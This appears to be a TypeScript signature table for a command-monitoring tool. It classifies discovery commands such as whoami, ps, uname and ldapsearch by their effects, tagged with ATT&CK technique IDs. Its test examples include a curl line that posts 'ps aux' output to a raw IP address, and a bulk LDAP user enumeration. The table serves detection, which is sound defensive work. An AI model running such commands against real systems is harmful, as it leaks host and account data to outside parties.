// data table
import type { Signature } from './signature.js'

/** Asking this machine and its directory what they are (T1033, T1057, T1082, T1087, T1069). Ordinary alone; what they print is tracked, so that sending it away is seen. */
export const DISCOVERY: readonly Signature[] = [
  {
    names: ['whoami', 'w', 'last', 'lastlogin', 'users', 'ps', 'top', 'htop', 'btop', 'atop', 'glances', 'pstree', 'pmap', 'procs', 'dmidecode', 'lshw', 'hwinfo', 'inxi', 'neofetch', 'fastfetch', 'screenfetch', 'pfetch', 'system_profiler', 'ioreg', 'hostinfo', 'facter', 'osqueryi', 'lsusb', 'lspci', 'lsscsi', 'lscpu', 'lsmem', 'lsipc', 'lsns', 'lslogins', 'lslocks', 'vmstat', 'ldapwhoami', 'printconf', 'oslevel', 'prtconf', 'prtdiag', 'machinfo', 'swlist', 'showrev', 'nvidia-smi', 'rocm-smi'], stdin: 'ignored', stdout: 'content',
    flags: { '-U, -u, -C, -o, -O, -p, -d, -n, -s, -t, -g, -G, --sort, --format, --user, --pid': { value: 'value', optional: true } }, effects: [{ does: 'read', what: 'system', class: 'discovery' }], inert: ['-V'],
    examples: [['whoami', ['read system:discovery']], ['curl -d "$(ps aux)" https://203.0.113.9/in', ['read system:discovery -> send host:raw-ip']], ['dmidecode -t bios', ['read system:discovery']], ['ps --help', []]],
  },
  { names: ['id', 'groups', 'who', 'logins', 'listusers'], stdin: 'ignored', stdout: 'content', effects: [{ does: 'read', what: 'system', class: 'discovery' }], examples: [['id', ['read system:discovery']], ['who -a', ['read system:discovery']], ['id --version', []]] },
  { names: ['hostname', 'hostid', 'dnsdomainname', 'domainname', 'nisdomainname', 'ypdomainname'], stdin: 'ignored', stdout: 'content', flags: { '-F, --file, -b': 'use' }, effects: [{ does: 'read', what: 'system', class: 'discovery', when: { max: 0, without: ['-F'] } }], examples: [['hostname -f', ['read system:discovery']], ['hostname build-1', []]] },
  { names: ['uname'], stdin: 'ignored', stdout: 'content', flags: { '-a, --all, -n, --nodename, -v, --kernel-version': 'switch' }, effects: [{ does: 'read', what: 'system', class: 'discovery', when: { flags: ['-a'] } }], examples: [['uname -a', ['read system:discovery']], ['curl -LO https://example.com/tool-$(uname -s)-$(uname -m)', ['!send host']]] },
  { names: ['lsb_release', 'sw_vers', 'uptime', 'free', 'mpstat', 'pidstat', 'sar', 'dstat', 'lsinitrd', 'isainfo', 'psrinfo', 'tload', 'runlevel', 'virt-what', 'imvirt', 'cloud-init', 'ec2metadata', 'cloud-id', 'dpkg-architecture', 'smem', 'ipcrm', 'lstopo', 'hwloc-ls', 'acpi', 'upower', 'sensors', 'xrandr', 'xdpyinfo', 'glxinfo', 'vainfo', 'vulkaninfo', 'clinfo'], stdin: 'ignored', examples: [['lsb_release -cs', []], ['uptime', []], ['sw_vers -productVersion', []]] },
  {
    names: ['ldapsearch', 'ldapvi', 'ldbsearch', 'adtool', 'adquery', 'netgroup'], stdin: 'ignored', stdout: 'content', flags: { '-H': 'url', '-h': 'host', '-p': 'port', '-y': 'use', '-b, -D, -w, -s, -l, -z, -Y, -U, -R, -X, -O, -o, -E, -e, -a, -S, -f, -P, -d': 'value', '-x, -L, -LL, -LLL, -Z, -ZZ, -W, -v, -n, -c, -A, -t, -T, -F, -u, -M, -I, -Q, -N': 'switch' }, inert: ['-V', '-VV'],
    effects: [{ does: 'read', what: 'account', class: 'ordinary', name: '$-b', tags: ['bulk'] }],
    examples: [['ldapsearch -x -H ldap://10.0.0.1 -b dc=corp,dc=local "(objectClass=user)"', ['read account:ordinary+bulk', 'receive host:private']], ['ldapsearch -VV', []]],
  },
  { names: ['ldapadd', 'ldapmodify', 'ldapdelete', 'ldappasswd', 'ldapmodrdn'], flags: { '-H': 'url', '-h': 'host', '-p': 'port', '-y': 'use', '-f': 'use', '-b, -D, -w, -s, -Y, -U, -R, -X, -e, -a, -d': 'value', '-x, -Z, -ZZ, -W, -v, -c, -r, -Q': 'switch', '-n': 'switch' }, inert: ['-n'], effects: [{ does: 'write', what: 'account', class: 'ordinary', name: 'directory' }], examples: [['ldapmodify -x -H ldap://10.0.0.1 -f change.ldif', ['write account:ordinary']], ['ldapadd -n -f x.ldif', []]] },
]
